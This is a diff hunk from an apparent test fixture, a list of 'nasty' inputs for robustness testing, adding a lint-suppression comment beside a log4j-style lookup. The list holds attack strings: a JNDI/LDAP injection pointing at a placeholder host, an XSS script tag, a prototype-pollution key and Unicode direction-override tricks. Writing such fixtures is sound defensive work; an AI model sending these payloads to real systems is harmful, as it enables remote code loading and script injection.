@@ -44,6 +44,7 @@ export const NASTY = [
   '\u0001\u0002\u001b[31m\u007f',
   '\ud800',
   '\u202e\u2066evil',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, sent literally
   '${jndi:ldap://x/a}',
   '<script>alert(1)</script>',
   '__proto__',
